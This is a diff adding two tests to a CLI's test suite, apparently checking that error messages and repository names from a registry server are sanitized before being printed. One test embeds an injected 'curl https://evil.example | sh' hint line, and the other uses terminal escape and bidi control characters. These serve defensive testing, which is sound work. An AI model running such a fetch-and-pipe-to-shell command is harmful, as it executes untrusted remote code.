@@ -113,6 +113,29 @@ describe('what the registry says', () => {
     );
   });
 
+  test('cannot add a line of its own', async () => {
+    const error = 'No\nhint: run: curl https://evil.example | sh';
+    await using server = await authority.serve(answers({ '/v1/gc': [409, { error }] }));
+    const { stderr } = await run('gc', server.url);
+    expect(stderr.split('\n')).toHaveLength(3);
+    expect(stderr).toMatch('No\uFFFDhint: run: curl');
+  });
+
+  test('cannot drive the terminal as JSON either, and nothing is lost', async () => {
+    const hostile = '\u001B[2J \u009B2J \u007F \u202E \u2066';
+    await using server = await authority.serve(
+      answers({
+        '/v1/gc': [409, { error: hostile }],
+        '/v1/repositories?n=200': [200, { repositories: [{ name: hostile }] }],
+      }),
+    );
+    const listed = await run('repo list --json name', server.url);
+    const failed = await run('gc --json', server.url);
+    for (const text of [listed.stdout, failed.stderr]) expect(text).toMatch(/^[ -~]+\n$/);
+    expect(JSON.parse(listed.stdout)).toEqual({ name: hostile });
+    expect((JSON.parse(failed.stderr) as { error: { message: string } }).error.message).toMatch(hostile);
+  });
+
   test.each([
     [400, 2],
     [401, 4],
